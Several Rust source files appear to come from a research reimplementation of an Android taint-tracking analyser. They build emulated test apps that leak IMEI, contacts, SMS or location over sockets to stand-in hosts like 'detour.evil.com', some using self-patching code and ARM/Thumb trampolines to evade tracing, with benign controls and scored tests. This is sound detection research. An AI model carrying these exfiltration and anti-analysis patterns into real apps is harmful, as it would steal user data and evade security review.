                    args: vec![0, 1, 2],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    let mut app = b
        .finish("Lcom/vnet/asip/general/general;", "register")
        .unwrap();
    app.lib_name = "libasip.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn taintdroid_misses_the_sip_register() {
        let sys = ephone().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.kernel.network_log.len(), 1, "data still exfiltrated");
    }

    #[test]
    fn ndroid_catches_with_taint_0x2() {
        let sys = ephone().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].taint, Taint::CONTACTS, "the paper's 0x2");
        assert_eq!(leaks[0].sink, "sendto");
        assert_eq!(leaks[0].dest, "softphone.comwave.net");
        assert!(leaks[0].data.starts_with("REGISTER sip:softphone.comwave.net"));
        assert!(leaks[0].data.contains("Vincent"));
    }

    #[test]
    fn trace_shows_the_fig7_call_chain() {
        let sys = ephone().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(log.contains("callregister"));
        assert!(log.contains("GetStringUTFChars"));
        assert!(log.contains("SinkHandler[sendto]"));
    }
}
