//! The adversarial app corpus: apps that *fight* the tracer with the
//! anti-analysis behaviors of paper §V — self-patching native code,
//! Thumb↔ARM interworking trampolines, and JNI method bodies rewritten
//! between invocations — plus μDep-style mutation variants of a single
//! synthetic flow with labeled ground truth.
//!
//! Every case carries its expected verdict, so the corpus is scored
//! (TP/FP/TN/FN, precision, recall) by `ndroid_core::score` rather than
//! merely asserted case-by-case: aggregate recall must be 1.0 on the
//! taint-preserving cases and precision 1.0 on the taint-killing and
//! benign ones. The three hand-built families deliberately stress the
//! SMC machinery PRs 2–3 hardened (decoded-instruction cache and JNI
//! handler cache invalidation on code-page writes):
//!
//! * [`detour_leak`] — a function's prologue is overwritten *at
//!   runtime* with a branch to a patched copy that returns the tainted
//!   buffer (the detour-rs idiom). The function is called once before
//!   patching so the stale decode is hot in the icache.
//! * [`interwork_leak`] — the tainted buffer rides an ARM → Thumb →
//!   ARM trampoline chain (BLX register interworking both ways) before
//!   reaching the sink.
//! * [`rewrite_leak`] — a JNI method patches its own selector
//!   instruction during its first invocation; the second invocation
//!   (same method, now different bytes) routes the tainted buffer to
//!   the sink.
//!
//! Each has a `*_benign` twin that performs the *identical* code
//! patching and mode switching but keeps sensitive data away from the
//! sink — the false-positive controls.

use crate::builder::{App, AppBuilder};
use crate::synth::{self, FlowSpec, Hop, Mutation, Sink, Source};
use ndroid_arm::asm::{branch_word, encoding_of, ThumbAssembler};
use ndroid_arm::reg::RegList;
use ndroid_arm::thumb::enc;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_emu::layout::NATIVE_CODE_BASE;
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Where the interworking app's Thumb trampoline lives (inside the
/// third-party region, clear of the ARM assembler's range).
const INTERWORK_THUMB_BASE: u32 = NATIVE_CODE_BASE + 0x0004_0000;

/// Emits the shared `String → native buffer` preamble: saves regs,
/// calls `GetStringUTFChars(arg, 0)` and strcpys the chars into
/// `taintbuf`. Leaves nothing live in caller-saved registers.
fn emit_capture_arg(b: &mut AppBuilder, taintbuf: u32) {
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, taintbuf);
    b.asm.call_abs(libc_addr("strcpy"));
}

/// Emits `socket(); connect(fd, dest); send(fd, payload, strlen, 0)`
/// with the payload pointer in `r4`. Clobbers r0-r3, r7, r12.
fn emit_send_r4(b: &mut AppBuilder, dest: u32) {
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R7, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
}

/// Emits the `source → native run(arg) × calls` bytecode entry point.
fn emit_main(
    b: &mut AppBuilder,
    class: ndroid_dvm::ClassId,
    native: ndroid_dvm::MethodId,
    source: Source,
    calls: usize,
) {
    let (src_cls, src_m) = source.method();
    let src = b.program.find_method_by_name(src_cls, src_m).unwrap();
    let mut code = vec![
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: src,
            args: vec![],
        },
        DexInsn::MoveResult { dst: 0 },
    ];
    for _ in 0..calls {
        code.push(DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: native,
            args: vec![0],
        });
    }
    code.push(DexInsn::ReturnVoid);
    b.method(
        class,
        MethodDef::new("main", "V", MethodKind::Bytecode(code)).with_registers(1),
    );
}

fn detour_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "detour-leak" } else { "detour-benign" },
        "installs an inline detour over its own payload selector at runtime",
    );
    let c = b.class("Lapp/Detour;");
    let dest = b.data_cstr("detour.evil.com");
    let taintbuf = b.data_buffer(128);
    let decoy = b.data_cstr("warmup-payload");
    let patched_decoy = b.data_cstr("patched-but-clean");

    // victim(): returns the payload pointer. Original body selects the
    // warm-up decoy; the detour target is a patched copy selecting the
    // tainted buffer (leak) or a second clean string (benign).
    let victim_addr = b.asm.here();
    b.asm.ldr_const(Reg::R0, decoy);
    b.asm.bx(Reg::LR);
    let target_addr = b.asm.here();
    b.asm
        .ldr_const(Reg::R0, if leak { taintbuf } else { patched_decoy });
    b.asm.bx(Reg::LR);
    // The detour: one word, `B target`, laid over victim's prologue.
    let detour = branch_word(victim_addr, target_addr).expect("in-range detour");

    // void run(String data)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    // Warm-up call: victim's original first instruction is now decoded
    // and hot in the icache.
    b.asm.call_abs(victim_addr);
    // Install the detour over the prologue (an in-guest store into the
    // library's own text — the icache must shoot the page down).
    b.asm.ldr_const(Reg::R2, detour);
    b.asm.ldr_const(Reg::R3, victim_addr);
    b.asm.str(Reg::R2, Reg::R3, 0);
    // Call through the detour and ship whatever it returns.
    b.asm.call_abs(victim_addr);
    b.asm.mov(Reg::R4, Reg::R0);
    emit_send_r4(&mut b, dest);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    emit_main(&mut b, c, native, Source::Imei, 1);
    let mut app = b.finish("Lapp/Detour;", "main").unwrap();
    app.lib_name = "libdetour.so".to_string();
    app
}

/// Detour family, leaking variant: the patched copy returns the
/// tainted buffer, so the post-patch call leaks the IMEI.
pub fn detour_leak() -> App {
    detour_app(true)
}

/// Detour family, false-positive control: identical runtime patching,
/// but the patched copy returns a clean constant.
pub fn detour_benign() -> App {
    detour_app(false)
}

fn interwork_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "interwork-leak" } else { "interwork-benign" },
        "routes the payload through an ARM->Thumb->ARM trampoline chain",
    );
    let c = b.class("Lapp/Interwork;");
    let dest = b.data_cstr("interwork.evil.com");
    let taintbuf = b.data_buffer(128);
    let outbuf = b.data_buffer(128);
    let decoy = b.data_cstr("mode-switch-decoy");

    // ARM sender(payload*): the far end of the trampoline chain. Called
    // *from Thumb* via BLX, returns via popped LR + BX (guaranteed
    // interworking back to Thumb).
    let sender_addr = b.asm.here();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.bx(Reg::LR);

    // void run(String data) — ARM entry: capture the arg, then hand
    // (src, outbuf) to the Thumb trampoline.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    b.asm
        .ldr_const(Reg::R0, if leak { taintbuf } else { decoy });
    b.asm.ldr_const(Reg::R1, outbuf);
    b.asm.call_interwork(INTERWORK_THUMB_BASE, true);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    // Thumb trampoline(src, dst): word-copies 32 bytes src→dst in T16
    // encodings (the Thumb tracer propagates, not the libc model),
    // then BLXes the ARM sender and BXes back to the ARM caller.
    let mut t = ThumbAssembler::new(INTERWORK_THUMB_BASE);
    t.raw(enc::mov_hi(Reg::R4, Reg::R0)); // src
    t.raw(enc::mov_hi(Reg::R5, Reg::R1)); // dst
    t.raw(enc::mov_hi(Reg::R6, Reg::LR)); // ARM return address
    t.raw(enc::mov_imm(Reg::R3, 0));
    let top = t.label();
    t.bind(top).unwrap();
    t.raw(enc::ldr_reg(Reg::R0, Reg::R4, Reg::R3));
    t.raw(enc::str_reg(Reg::R0, Reg::R5, Reg::R3));
    t.raw(enc::add_imm8(Reg::R3, 4));
    t.raw(enc::cmp_imm(Reg::R3, 32));
    t.b_cond(Cond::Ne, top);
    t.raw(enc::mov_hi(Reg::R0, Reg::R5));
    t.call_interwork(sender_addr, false); // Thumb → ARM
    t.raw(enc::bx(Reg::R6)); // Thumb → ARM (return)
    let thumb_code = t.assemble().expect("thumb trampoline assembly");

    emit_main(&mut b, c, native, Source::Contact, 1);
    let mut app = b.finish("Lapp/Interwork;", "main").unwrap();
    app.data.push((INTERWORK_THUMB_BASE, thumb_code.bytes));
    app.lib_name = "libinterwork.so".to_string();
    app
}

/// Interworking family, leaking variant: the contact name crosses two
/// mode switches (ARM→Thumb→ARM) on its way to `send`.
pub fn interwork_leak() -> App {
    interwork_app(true)
}

/// Interworking family, false-positive control: the same trampoline
/// chain carries a clean decoy; the tainted buffer never leaves.
pub fn interwork_benign() -> App {
    interwork_app(false)
}

fn rewrite_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "rewrite-leak" } else { "rewrite-benign" },
        "JNI method rewrites its own selector between invocations",
    );
    let c = b.class("Lapp/Rewrite;");
    let dest = b.data_cstr("rewrite.evil.com");
    let taintbuf = b.data_buffer(128);
    let decoy = b.data_cstr("first-call-decoy");

    // void run(String data) — invoked TWICE from Java. A selector
    // instruction chooses decoy vs tainted payload; the method patches
    // that instruction during each call, so the second invocation runs
    // different bytes than the handler cache saw the first time.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    b.asm.mov_imm(Reg::R4, 0).unwrap();
    // The selector: starts as `mov r4, #0` (decoy). The leaking
    // variant patches it to `mov r4, #1`; the benign one to
    // `eor r4, r4, #0` — different bytes, same verdict.
    let selector_addr = b.asm.here();
    b.asm.mov_imm(Reg::R4, 0).unwrap();
    b.asm.cmp_imm(Reg::R4, 0).unwrap();
    b.asm.ldr_const(Reg::R5, taintbuf);
    let tainted = b.asm.label();
    b.asm.b_cond(Cond::Ne, tainted);
    b.asm.ldr_const(Reg::R5, decoy);
    b.asm.bind(tainted).unwrap();
    b.asm.mov(Reg::R4, Reg::R5);
    emit_send_r4(&mut b, dest);
    // Rewrite the selector in place for the next invocation.
    let patch = if leak {
        encoding_of(|a| a.mov_imm(Reg::R4, 1).unwrap())
    } else {
        encoding_of(|a| a.eor_imm(Reg::R4, Reg::R4, 0).unwrap())
    };
    b.asm.ldr_const(Reg::R2, patch);
    b.asm.ldr_const(Reg::R3, selector_addr);
    b.asm.str(Reg::R2, Reg::R3, 0);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    emit_main(&mut b, c, native, Source::Sms, 2);
    let mut app = b.finish("Lapp/Rewrite;", "main").unwrap();
    app.lib_name = "librewrite.so".to_string();
    app
}

/// Rewrite family, leaking variant: call 1 sends the decoy and patches
/// the selector; call 2 (same JNI method, new bytes) sends the SMS.
pub fn rewrite_leak() -> App {
    rewrite_app(true)
}

/// Rewrite family, false-positive control: the method still rewrites
/// itself between invocations, but the new selector bytes are
/// semantically identical — both calls send the decoy.
pub fn rewrite_benign() -> App {
    rewrite_app(false)
}

/// The base flow every mutation variant starts from.
fn mutation_base() -> FlowSpec {
    FlowSpec {
        source: Source::Contact,
        hops: vec![Hop::Strcpy],
        sink: Sink::NativeSend,
        leak: true,
        mutations: vec![],
    }
}

/// The μDep-style mutation variants of [`mutation_base`], labeled with
/// their ground truth: taint-preserving mutations keep the leak,
/// taint-killing ones sever it (and a later preserving mutation must
/// not resurrect it).
pub fn mutation_variants() -> Vec<(&'static str, FlowSpec)> {
    vec![
        ("mutation/xor29", mutation_base().with_mutations(&[Mutation::Xor29])),
        ("mutation/reverse", mutation_base().with_mutations(&[Mutation::Reverse])),
        (
            "mutation/xor29-reverse",
            mutation_base().with_mutations(&[Mutation::Xor29, Mutation::Reverse]),
        ),
        (
            "mutation/const-stamp",
            mutation_base().with_mutations(&[Mutation::ConstStamp]),
        ),
        (
            "mutation/implicit-only",
            mutation_base().with_mutations(&[Mutation::ImplicitOnly]),
        ),
        (
            "mutation/stamp-then-xor29",
            mutation_base().with_mutations(&[Mutation::ConstStamp, Mutation::Xor29]),
        ),
    ]
}

/// How a corpus case constructs its app.
pub enum CaseApp {
    /// A hand-built adversarial (or benign-control) app.
    Builder(fn() -> App),
    /// A synthetic flow from a (possibly mutated) [`FlowSpec`].
    Spec(FlowSpec),
}

/// One labeled corpus case: `family/name`, its ground truth, and its
/// app constructor.
pub struct AdversarialCase {
    /// Stable `family/name` label (the family is the scoring key).
    pub label: &'static str,
    /// Ground truth: should an analysis flag this case as leaking?
    pub expected_leak: bool,
    /// The app source.
    pub app: CaseApp,
}

impl AdversarialCase {
    /// The family component of the label.
    pub fn family(&self) -> &'static str {
        self.label.split('/').next().unwrap_or(self.label)
    }

    /// Builds a fresh app for this case (app constructors are cheap
    /// pure functions — build one per run).
    pub fn build(&self) -> App {
        match &self.app {
            CaseApp::Builder(f) => f(),
            CaseApp::Spec(spec) => synth::build(spec),
        }
    }
}

/// The full adversarial corpus, in pinned order: three hand-built
/// families (leak + benign control each), the mutation variants, and
/// the heavy-JNI benign apps. This list is the single source of truth
/// for both the farm jobs and the ground-truth oracle.
pub fn corpus() -> Vec<AdversarialCase> {
    let mut cases = vec![
        AdversarialCase {
            label: "detour/leak",
            expected_leak: true,
            app: CaseApp::Builder(detour_leak),
        },
        AdversarialCase {
            label: "detour/benign",
            expected_leak: false,
            app: CaseApp::Builder(detour_benign),
        },
        AdversarialCase {
            label: "interwork/leak",
            expected_leak: true,
            app: CaseApp::Builder(interwork_leak),
        },
        AdversarialCase {
            label: "interwork/benign",
            expected_leak: false,
            app: CaseApp::Builder(interwork_benign),
        },
        AdversarialCase {
            label: "rewrite/leak",
            expected_leak: true,
            app: CaseApp::Builder(rewrite_leak),
        },
        AdversarialCase {
            label: "rewrite/benign",
            expected_leak: false,
            app: CaseApp::Builder(rewrite_benign),
        },
    ];
    for (label, spec) in mutation_variants() {
        cases.push(AdversarialCase {
            label,
            expected_leak: spec.expected_leak(),
            app: CaseApp::Spec(spec),
        });
    }
    cases.push(AdversarialCase {
        label: "benign/physics-game",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::physics_game),
    });
    cases.push(AdversarialCase {
        label: "benign/audio-license",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::audio_license_check),
    });
    cases.push(AdversarialCase {
        label: "benign/dsp-filter",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::dsp_filter),
    });
    cases
}

/// The ground-truth oracle over corpus labels.
pub fn expected_leak(label: &str) -> Option<bool> {
    corpus()
        .iter()
        .find(|c| c.label == label)
        .map(|c| c.expected_leak)
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn detour_leak_caught_and_benign_clean() {
        let sys = detour_leak().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "post-patch call ships the IMEI");
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "detour.evil.com");

        let sys = detour_benign().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty(), "patched copy returns a constant");
        assert_eq!(sys.kernel.network_log.len(), 1, "the send still happened");
    }

    #[test]
    fn detour_actually_detours() {
        // The wire payload proves execution followed the *new* bytes:
        // the warm-up decoy is never sent, the detour target's
        // selection is.
        let sys = detour_benign().run(Mode::Vanilla).unwrap();
        let (_, payload, _) = &sys.kernel.network_log[0];
        assert_eq!(payload.as_slice(), b"patched-but-clean");
    }

    #[test]
    fn interwork_leak_caught_and_benign_clean() {
        let sys = interwork_leak().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert!(leaks[0].data.starts_with("Vincent"), "{}", leaks[0].data);

        let sys = interwork_benign().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.kernel.network_log.len(), 1);
    }

    #[test]
    fn rewrite_second_invocation_runs_new_bytes() {
        let sys = rewrite_leak().run(Mode::NDroid).unwrap();
        assert_eq!(sys.kernel.network_log.len(), 2, "both invocations send");
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "only the rewritten second call leaks");
        assert!(leaks[0].taint.contains(Taint::SMS));

        let sys = rewrite_benign().run(Mode::NDroid).unwrap();
        assert_eq!(sys.kernel.network_log.len(), 2);
        assert!(sys.leaks().is_empty(), "rewritten selector is still clean");
    }

    #[test]
    fn corpus_labels_are_unique_and_spec_truth_is_consistent() {
        let cases = corpus();
        for (i, a) in cases.iter().enumerate() {
            for b in &cases[i + 1..] {
                assert_ne!(a.label, b.label);
            }
            if let CaseApp::Spec(spec) = &a.app {
                assert_eq!(a.expected_leak, spec.expected_leak(), "{}", a.label);
            }
            assert!(expected_leak(a.label) == Some(a.expected_leak));
        }
        assert!(expected_leak("no/such-case").is_none());
        // Both polarities are represented, so recall AND precision are
        // exercised.
        assert!(cases.iter().any(|c| c.expected_leak));
        assert!(cases.iter().any(|c| !c.expected_leak));
    }

    #[test]
    fn every_case_matches_its_ground_truth_under_ndroid() {
        for case in corpus() {
            let sys = case.build().run(Mode::NDroid).unwrap();
            assert_eq!(
                sys.report().leaked(),
                case.expected_leak,
                "{}: verdict disagrees with ground truth",
                case.label
            );
        }
    }
}
