//! The proof-of-concept app for Case 2 (Fig. 8).
//!
//! `boolean recordContact(String id, String name, String email)` — a
//! *virtual* native method (the paper logs `args[1..3]`, with `this`
//! in `args[0]` and shorty `ZLLL`). It converts the three tainted
//! strings with `GetStringUTFChars`, opens `/sdcard/CONTACTS`, and
//! `fprintf`s them — the file-write sink.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the Case-2 PoC.
pub fn poc_case2() -> App {
    let mut b = AppBuilder::new(
        "PoC-case2",
        "Fig. 8: recordContact -> GetStringUTFChars x3 -> fopen/fprintf/fclose",
    );
    let c = b.class("Lcom/ndroid/demos/Demos;");
    let path = b.data_cstr("/sdcard/CONTACTS");
    let mode_w = b.data_cstr("w");
    let fmt = b.data_cstr("%s %s %s  ");

    // boolean recordContact(String id, String name, String email)
    // virtual: r0 = this, r1..r3 = the strings.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R1);
    b.asm.mov(Reg::R5, Reg::R2);
    b.asm.mov(Reg::R6, Reg::R3);
    // 1st call: id
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    // 2nd call: name
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R5, Reg::R0);
    // 3rd call: email
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R6, Reg::R0);
    // Step 4: fopen("/sdcard/CONTACTS", "w")
    b.asm.ldr_const(Reg::R0, path);
    b.asm.ldr_const(Reg::R1, mode_w);
    b.asm.call_abs(libc_addr("fopen"));
    b.asm.mov(Reg::R7, Reg::R0);
    // Step 5: fprintf(file, "%s %s %s  ", id, name, email) — email on
    // the stack (5th AAPCS argument).
    b.asm.ldr_const(Reg::R1, fmt);
    b.asm.mov(Reg::R2, Reg::R4);
    b.asm.mov(Reg::R3, Reg::R5);
    b.asm.sub_imm(Reg::SP, Reg::SP, 4).unwrap();
    b.asm.str(Reg::R6, Reg::SP, 0);
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.call_abs(libc_addr("fprintf"));
    b.asm.add_imm(Reg::SP, Reg::SP, 4).unwrap();
    // Step 6: fclose(file)
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.call_abs(libc_addr("fclose"));
    b.asm.mov_imm(Reg::R0, 1).unwrap(); // RETURN '1' (true)
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let record = b.native_method(c, "recordContact", "ZLLL", false, entry);

    let qid = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryId")
        .unwrap();
    let qname = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let qemail = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryEmail")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                // this = new Demos()
                DexInsn::NewInstance { dst: 0, class: c },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: qid,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: qname,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 2 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: qemail,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 3 },
                DexInsn::Invoke {
                    kind: InvokeKind::Virtual,
                    method: record,
                    args: vec![0, 1, 2, 3],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(4),
    );
    let mut app = b.finish("Lcom/ndroid/demos/Demos;", "main").unwrap();
    app.lib_name = "libdemos.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::{SinkContext, Taint};

    #[test]
    fn taintdroid_misses_the_file_write() {
        let sys = poc_case2().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(
            sys.kernel.fs.get("/sdcard/CONTACTS").map(Vec::as_slice),
            Some(b"1 Vincent cx@gg.com  ".as_slice()),
            "the contact record still landed on disk"
        );
    }

    #[test]
    fn ndroid_catches_fprintf_with_0x2() {
        let sys = poc_case2().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].taint, Taint::CONTACTS, "the paper's taint value 0x2");
        assert_eq!(leaks[0].context, SinkContext::Native);
        assert_eq!(leaks[0].dest, "/sdcard/CONTACTS");
        assert_eq!(leaks[0].data, "1 Vincent cx@gg.com  ");
    }

    #[test]
    fn trace_matches_fig8_steps() {
        let sys = poc_case2().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        // dvmCallJNIMethod hook with the method identity.
        assert!(log.contains("recordContact"));
        assert!(log.contains("Lcom/ndroid/demos/Demos;"));
        assert!(log.contains("shorty: ZLLL"));
        // SourcePolicy found and applied.
        assert!(log.contains("Find a source function @"));
        // The three GetStringUTFChars conversions.
        let gsc = log.matches("TrustCallHandler[GetStringUTFChars] begin").count();
        assert_eq!(gsc, 3, "three conversions as in Fig. 8");
        // fopen / fprintf-sink / fclose.
        assert!(log.contains("TrustCallHandler[fopen] Open '/sdcard/CONTACTS'"));
        assert!(log.contains("SinkHandler[fprintf]"));
        assert!(log.contains("TrustCallHandler[fclose]"));
    }

    #[test]
    fn source_policy_was_created_for_tainted_call() {
        let sys = poc_case2().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        assert!(stats.source_policies >= 1);
        assert!(stats.jni_entries >= 1);
        assert!(stats.insns_traced > 0);
    }
}
