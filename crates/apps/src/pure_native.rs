//! Type-III apps (§III-C): "apps written in pure native code" — a
//! `NativeActivity`-style game with **no Java entry point at all**.
//! Everything, including framework access, happens from ARM code
//! through JNI up-calls.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::{Cond, Reg};
use ndroid_jni::dvm_addr;
use ndroid_libc::{libc_addr, libm_addr};

/// A leaking pure-native game: its analytics path reads the last known
/// location through a JNI up-call and ships it with the telemetry.
pub fn native_game_leaky() -> App {
    let mut b = AppBuilder::new(
        "native-game",
        "Type III: pure-native game whose telemetry ships the location",
    );
    let cls = b.data_cstr("Landroid/location/LocationManager;");
    let meth = b.data_cstr("getLastKnownLocation");
    let dest = b.data_cstr("analytics.gamey.example");
    let telemetry = b.data_buffer(256);
    let fmt = b.data_cstr("score=%d loc=%s");

    let main = b.asm.label();
    b.asm.bind(main).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    // --- the "game": a physics loop ---------------------------------
    b.asm.mov_imm(Reg::R4, 0).unwrap(); // score
    b.asm.mov_imm(Reg::R6, 32).unwrap(); // frames
    let frame = b.asm.here_label();
    b.asm.ldr_const(Reg::R0, 2.25f32.to_bits());
    b.asm.call_abs(libm_addr("sqrtf"));
    b.asm.add_imm(Reg::R4, Reg::R4, 3).unwrap();
    b.asm.subs_imm(Reg::R6, Reg::R6, 1).unwrap();
    b.asm.b_cond(Cond::Ne, frame);
    // --- telemetry: location via JNI up-call --------------------------
    b.asm.ldr_const(Reg::R0, cls);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod")); // tainted jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R5, Reg::R0); // location chars
    // sprintf(telemetry, "score=%d loc=%s", score, loc)
    b.asm.ldr_const(Reg::R0, telemetry);
    b.asm.ldr_const(Reg::R1, fmt);
    b.asm.mov(Reg::R2, Reg::R4);
    b.asm.mov(Reg::R3, Reg::R5);
    b.asm.call_abs(libc_addr("sprintf"));
    // socket/connect/send
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.ldr_const(Reg::R0, telemetry);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.ldr_const(Reg::R1, telemetry);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));

    let mut app = b.finish_pure_native(main).unwrap();
    app.lib_name = "libmain.so".to_string();
    app
}

/// A benign pure-native game: same physics loop, but the only output
/// is an untainted save file.
pub fn native_game_benign() -> App {
    let mut b = AppBuilder::new(
        "native-puzzle",
        "Type III: pure-native puzzle writing only its own save file",
    );
    let path = b.data_cstr("/data/data/puzzle/save.dat");
    let mode_w = b.data_cstr("w");
    let fmt = b.data_cstr("best=%d");

    let main = b.asm.label();
    b.asm.bind(main).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
